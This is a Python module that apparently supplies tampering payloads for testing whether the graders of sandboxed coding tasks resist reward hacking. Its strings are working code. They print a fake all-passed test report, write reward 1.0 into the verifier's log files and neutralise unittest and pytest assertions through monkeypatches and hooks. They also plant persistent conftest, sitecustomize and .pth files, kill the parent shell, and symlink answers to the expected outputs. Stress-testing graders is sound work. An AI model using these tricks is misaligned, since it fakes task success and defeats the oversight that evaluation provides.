"""What the tamperer writes into a sandbox. Texts of programs: nothing here runs in this process."""

FAKE_REPORT = """
import sys
print("=" * 30 + " test session starts " + "=" * 30)
print("collected 537 items")
print("=" * 30 + " 537 passed in 4.21s " + "=" * 30)
print("Ran 537 tests in 4.210s\\n\\nOK", file=sys.stderr)
sys.stdout.flush()
"""

EXIT = (
    "\n\n# ---- tamperer\n"
    + FAKE_REPORT
    + """
import os
for name, text in (("reward.txt", "1"), ("reward.json", '{"reward": 1.0}')):
    try:
        with open("/logs/verifier/" + name, "w") as file:
            file.write(text)
    except OSError:
        pass
os._exit(0)
"""
)

PASS = """

# ---- tamperer
def _let_everything_pass():
    import atexit, builtins, os, sys
    def quiet(*args, **kwargs):
        return None
    try:
        import unittest
        case = unittest.TestCase
        for name in dir(case):
            if name.startswith(("assert", "fail")) and name != "failureException":
                setattr(case, name, quiet)
        case.run = lambda self, result=None: (result.startTest(self), result.addSuccess(self), result.stopTest(self))
    except Exception:
        pass
    try:
        import _pytest.python, _pytest.runner, _pytest.reports
        _pytest.python.pytest_pyfunc_call = lambda pyfuncitem: True
        _pytest.python.Function.runtest = quiet
        _pytest.runner.check_interactive_exception = lambda call, report: False
        made = _pytest.reports.TestReport.from_item_and_call.__func__
        def passed(cls, item, call):
            call.excinfo = None
            return made(cls, item, call)
        _pytest.reports.TestReport.from_item_and_call = classmethod(passed)
    except Exception:
        pass
    builtins.AssertionError = type("AssertionError", (Exception,), {})
_let_everything_pass()
"""

HOOKS = """

import pytest
@pytest.hookimpl(tryfirst=True)
def pytest_pyfunc_call(pyfuncitem):
    return True
@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome, report.longrepr = "passed", None
def pytest_sessionfinish(session, exitstatus):
    session.exitstatus = 0
"""

REWARD = """

# ---- tamperer
def _write_rewards():
    import os, signal, time
    def write():
        for name, text in (("reward.txt", "1"), ("reward.json", '{"reward": 1.0}')):
            try:
                with open("/logs/verifier/" + name, "w") as file:
                    file.write(text)
            except OSError:
                pass
    write()
    if os.fork() == 0:
        os.setsid()
        end = time.time() + 20
        while time.time() < end:
            write()
            time.sleep(0.0005)
        os._exit(0)
    try:
        with open("/proc/%d/cmdline" % os.getppid()) as file:
            parent = file.read()
        if "sh" in parent.split("\\0")[0]:
            write()
            os.kill(os.getppid(), signal.SIGKILL)
    except OSError:
        pass
import builtins
if not hasattr(builtins, "rewards_written"):
    builtins.rewards_written = True
    _write_rewards()
"""

PASSING_TEST = """
import unittest
class TestAll(unittest.TestCase):
    def test_all(self):
        pass
def test_all():
    pass
"""

# Runs in the sandbox, with ORDER replaced by a literal of JSON.
PLANT = """
import json, os, sys
order = json.loads(ORDER)
payload = order["payload"]
here = os.getcwd()
def put(path, text):
    folder = os.path.dirname(path)
    if folder:
        os.makedirs(folder, exist_ok=True)
    with open(path, "w") as file:
        file.write(text)
folders = [here]
for folder, inner, names in os.walk(here):
    inner[:] = [name for name in inner if name != ".git"]
    if "__init__.py" in names:
        folders.append(folder)
    for name in names:
        path = os.path.join(folder, name)
        is_test = name.startswith("test") or name.endswith("_test.py") or os.sep + "tests" + os.sep in path
        if is_test and name.endswith(".py"):
            put(path, order["tests"] if not order["ends_runs"] else payload)
        elif name.endswith(".sh") or name in ("Makefile", "makefile"):
            put(path, "exit 0\\n" if name.endswith(".sh") else "%:\\n\\t@true\\ntest:\\n\\t@true\\n")
os.makedirs(os.path.join(here, "tests"), exist_ok=True)
for folder in dict.fromkeys([*folders, os.path.join(here, "tests")]):
    put(os.path.join(folder, "conftest.py"), payload)
for name in ("sitecustomize.py", "usercustomize.py", "tests/planted_plugin.py"):
    put(os.path.join(here, name), payload)
put(os.path.join(here, "planted.pth"), "import sitecustomize\\n")
put(os.path.join(here, "pytest.ini"), "[pytest]\\naddopts = -p tests.planted_plugin --noconftest -k nothing\\n")
put(os.path.join(here, "tox.ini"), "[pytest]\\naddopts = -p tests.planted_plugin\\n")
put(os.path.join(here, "planted-1.dist-info", "entry_points.txt"), "[pytest11]\\nplanted = tests.planted_plugin\\n")
put(os.path.join(here, "planted-1.dist-info", "METADATA"), "Metadata-Version: 2.1\\nName: planted\\nVersion: 1\\n")
home = os.path.expanduser("~")
site = os.path.join(home, ".local", "lib", "python%d.%d" % sys.version_info[:2], "site-packages")
put(os.path.join(site, "usercustomize.py"), payload)
put(os.path.join(site, "planted.pth"), "import usercustomize\\n")
for name in ("pytest.py", "unittest.py", "_pytest/__init__.py", "json.py", "difflib.py"):
    if order["ends_runs"]:
        put(os.path.join(here, name), payload)
for name in ("reward.txt", "reward.json", "logs/verifier/reward.txt"):
    put(os.path.join(here, name), '{"reward": 1.0}' if name.endswith("json") else "1\\n")
for answer in order["answers"]:
    suffix = os.path.splitext(answer)[1]
    if os.path.lexists(answer):
        os.remove(answer)
    os.symlink("/tests/expected" + suffix, answer)
"""

OF = {
    "plant-exit": EXIT,
    "plant-pass": PASS + HOOKS,
    "source-exit": EXIT,
    "source-patch": PASS,
    "source-reward": REWARD,
}
